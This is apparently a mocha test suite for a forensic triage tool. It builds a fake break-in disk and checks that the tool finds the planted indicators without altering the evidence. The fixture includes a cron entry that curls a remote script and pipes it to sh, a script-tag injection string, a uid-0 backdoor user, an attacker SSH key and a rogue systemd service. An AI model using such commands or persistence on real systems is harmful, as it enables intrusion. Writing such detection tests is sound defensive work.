import assert from "node:assert/strict";
import { createHash } from "node:crypto";

import { EvidenceMachine, VOLUME } from "./evidenceMachine";
import type { LoopDisk } from "./loopDisk";

// The first look of a disk, as examiner, on a small Linux that somebody broke into.

const PLACE = `/home/examiner/triage/${VOLUME}-whole`;

interface Table {
  readonly columns: string[];
  readonly rows: string[][];
  readonly notes: string[];
}

describe("evidence-triage", function () {
  this.timeout(300_000);
  const machine = EvidenceMachine.ofSuite();
  // On the tree's own disk, as what is mounted there is not seen by the examiner's shell.
  afterEach(function () {
    if (process.env["CLEANROOM_IMAGE_ROOT"] !== undefined)
      machine.run("rm -rf /opt/clean-room/yara-rules; chmod 0700 /root");
  });

  /** A disk with what the tables are about, root's and nobody else's to read, as evidence. */
  function broken(): LoopDisk {
    const disk = machine.newDisk("triage", 64);
    machine.must(
      // The interpreter that is lent to the tree may lie in root's home.
      `chmod 0711 /root; chmod 0755 /home; rm -rf /home/examiner; install -d -o examiner -g examiner /home/examiner
       mkfs.ext4 -q -F "$1"; mount "$1" /mnt; cd /mnt; umask 077
       mkdir -p etc/systemd/system etc/cron.d root/.ssh var/log/audit var/lib/docker/containers/0a1b home/eve tmp usr/lib
       echo 'PRETTY_NAME="Suspect Linux 9"' >usr/lib/os-release; ln -s ../usr/lib/os-release etc/os-release
       echo suspect-host >etc/hostname; echo 'root:x:0:0::/root:/bin/bash
eve:x:0:0::/home/eve:/bin/sh' >etc/passwd; echo 'root:*:1:::::
eve:$6$x:1:::::' >etc/shadow
       echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEVWSUw eve@evil' >root/.ssh/authorized_keys
       printf '[Service]\\nExecStart=/tmp/.x --evil\\n' >etc/systemd/system/evil.service
       ln -s /etc/shadow etc/systemd/system/shadow.service
       echo '* * * * * root curl http://203.0.113.7/<script>alert(1)</script>|sh' >etc/cron.d/evil
       printf '#!/bin/sh\\n' >tmp/.x; chmod 0755 tmp/.x
       echo 'Nov 29 03:00:00 h sshd[1]: Accepted password for eve from 203.0.113.7 port 4 ssh2' >var/log/auth.log
       python3 -c 'import struct,sys; sys.stdout.buffer.write(struct.pack("<hxxi32s4s32s256shhiii4i20x",7,1,b"pts/0",b"",b"eve",b"203.0.113.7",0,0,0,1700000000,0,0,0,0,0)+b"half")' >var/log/wtmp
       echo '{"Name":"/miner","Created":"2026-01-01","Config":{"Image":"evil/miner"},"State":{"Running":true}}' >var/lib/docker/containers/0a1b/config.v2.json
       mkdir var/lib/docker/containers/0a1c; echo '{"broken' >var/lib/docker/containers/0a1c/config.v2.json
       echo EVIL-MARKER-1234567890 >home/eve/malware
       cd /; umount /mnt; chgrp examiner "$1"`,
      disk.device,
    );
    machine.intake(disk);
    machine.must(
      `chmod 0440 "$1"; mkdir -p /opt/clean-room/yara-rules
       echo 'rule marker { strings: $a = "EVIL-MARKER-1234567890" condition: $a }' >/opt/clean-room/yara-rules/test.yar`,
      disk.device,
    );
    return disk;
  }

  const as = (words: string) => machine.run(`cd /; su examiner -c "evidence-triage ${words}"`);

  /** Waits until it has ended. */
  const ended = () =>
    machine.must(
      `for n in $(seq 2400); do ! flock -n ${PLACE}/.lock true || exit 0; sleep 0.1; done; cat ${PLACE}/log; exit 1`,
    );

  const table = (name: string) => JSON.parse(machine.must(`cat ${PLACE}/${name}.json`)) as Table;

  it("looks at a whole system as examiner in the background, and changes no byte", function () {
    const disk = broken();
    const before = disk.sha256();
    const { status, stdout, stderr } = as(disk.device);
    assert.equal(status, 0, stderr);
    assert.match(stdout, /at work .*status\npage +\/home\/examiner/);
    ended();
    assert.equal(machine.must(`cat ${PLACE}/log`), "");
    const has = (name: string, ...words: string[]) => {
      const { rows, notes } = table(name);
      const found = rows.some((row) => words.every((word) => row.join(" ").includes(word)));
      assert.ok(found, `${name}: ${words.join()} is not in ${JSON.stringify({ rows, notes })}`);
    };
    has("facts", "PRETTY_NAME", "Suspect Linux 9");
    has("facts", "suspect-host");
    has("users", "eve", "uid 0", "password");
    has("users", "key", "eve@evil");
    has("persistence", "evil.service", "ExecStart=/tmp/.x --evil");
    has("persistence", "cron.d/evil", "curl");
    has("persistence", "program", "/tmp/.x");
    has("logins", "2023-11-14T22:13:20Z", "login", "eve", "203.0.113.7");
    has("logins", "Accepted password for eve");
    has("containers", "docker", "/miner", "evil/miner");
    has("yara", "marker", "/home/eve/malware");
    // In a tree whose interpreter lies in root's home, examiner has no plaso, and is told so.
    if (machine.run("su examiner -c 'sudo evidence-shell log2timeline --version'").status === 0) {
      assert.ok(Number(table("timeline").rows[0]?.[0]) > 20, JSON.stringify(table("timeline")));
      assert.match(machine.must(`cat ${PLACE}/timeline.csv`), /filestat/);
    } else {
      assert.match(table("timeline").notes.join(), /FAILED: /);
    }
    // Nothing is silent: what was not followed, read or run.
    assert.match(
      table("persistence").notes.join(),
      /shadow\.service leads out of evidence, to \/etc\/shadow/,
    );
    assert.match(table("containers").notes.join(), /0a1c\/config\.v2\.json/);
    assert.match(table("sigma").notes.join(), /not run: .*chainsaw; the tools bucket/);
    assert.doesNotMatch(machine.must(`cat ${PLACE}/*.json`), /\$6\$x/);
    // One page, which runs nothing that the disk says.
    const page = machine.must(`cat ${PLACE}/index.html`);
    assert.match(page, /Suspect Linux 9/);
    assert.doesNotMatch(page, /<script>/);
    machine.must(
      `cd ${PLACE}; sha256sum --check --quiet SHA256SUMS; grep -q ' yara.json' SHA256SUMS`,
    );
    assert.match(as(`${disk.device} status`).stdout, /facts +\d+ rows, 0 notes, [\d.]+ s/);
    machine.must(
      `evidence-unmount $(sed -n 's/.*sudo evidence-unmount //p' ${PLACE}/opened.txt | tail -n 1)`,
    );
    assert.equal(disk.sha256(), before);
  });

  it("makes again what is missing or was changed, and nothing else", () => {
    const disk = broken();
    assert.equal(as(`${disk.device} asis`).status, 0);
    ended();
    const kept = createHash("sha256")
      .update(machine.must(`cat ${PLACE}/users.json`))
      .digest("hex");
    machine.must(
      `cd ${PLACE}; cat steps.json >/tmp/before; rm logins.json; echo '{}' >containers.json; sleep 1.1`,
    );
    assert.equal(as(`${disk.device} asis`).status, 0);
    ended();
    const [first, second] = ["/tmp/before", `${PLACE}/steps.json`].map(
      (path) => JSON.parse(machine.must(`cat ${path}`)) as Record<string, { began: string }>,
    );
    for (const step of Object.keys(second ?? {})) {
      const again = first?.[step]?.began !== second?.[step]?.began;
      assert.equal(again, ["logins", "containers"].includes(step), step);
    }
    assert.ok(table("containers").rows.length > 0);
    assert.equal(
      createHash("sha256")
        .update(machine.must(`cat ${PLACE}/users.json`))
        .digest("hex"),
      kept,
    );
  });

  it("refuses what is no evidence, options, and a second run at the same time", () => {
    assert.match(as("/dev/null").stderr, /usage: evidence-volume|no EBS volume|tells no serial/);
    const disk = broken();
    assert.match(as(`${disk.device} --fast`).stderr, /usage/);
    assert.match(as(`${disk.device} status`).stderr, /nothing was begun/);
    machine.must(`su examiner -c "mkdir -p ${PLACE}"`);
    const second = machine.run(
      `su examiner -c 'exec 8>>${PLACE}/.lock; flock 8; evidence-triage ${disk.device}'`,
    );
    assert.match(second.stderr, /it is at work/);
  });
});

describe("evidence-triage on a kernel of its own", function () {
  this.timeout(300_000);
  const machine = EvidenceMachine.ofSuite("user-mode");

  it("sees what only the journal of a dirty XFS holds, in its replayed view", () => {
    const source = machine.newDisk("xfs-source", 320);
    machine.must(
      `mountpoint -q /home || mount -t tmpfs -o mode=0755 tmpfs /home
       install -d -o examiner -g examiner /home/examiner; mkfs.xfs -q "$1"; mount -t xfs "$1" /mnt; mkdir /mnt/etc; sync; echo late-host >/mnt/etc/hostname
       sync /mnt/etc/hostname; xfs_io -x -c 'shutdown -f' /mnt`,
      source.device,
    );
    machine.copy("xfs-source", "xfs");
    machine.must("umount /mnt");
    machine.detach(source);
    const disk = machine.intake(machine.attach("xfs"));
    const before = disk.sha256();
    machine.must(
      'chgrp examiner "$1"; chmod 0440 "$1"; su examiner -c "evidence-triage $1"',
      disk.device,
    );
    machine.must(
      `for n in $(seq 1200); do [ ! -e ${PLACE}/facts.json ] || break; sleep 0.1; done
       su examiner -c "evidence-triage ${disk.device} stop"; sleep 1`,
    );
    assert.match(machine.must(`cat ${PLACE}/facts.json`), /late-host/);
    assert.match(machine.must(`cat ${PLACE}/index.html`), /journals replayed into an overlay/);
    machine.must(`evidence-unmount /evidence/${VOLUME}/whole.replayed`);
    assert.equal(disk.sha256(), before);
  });
});
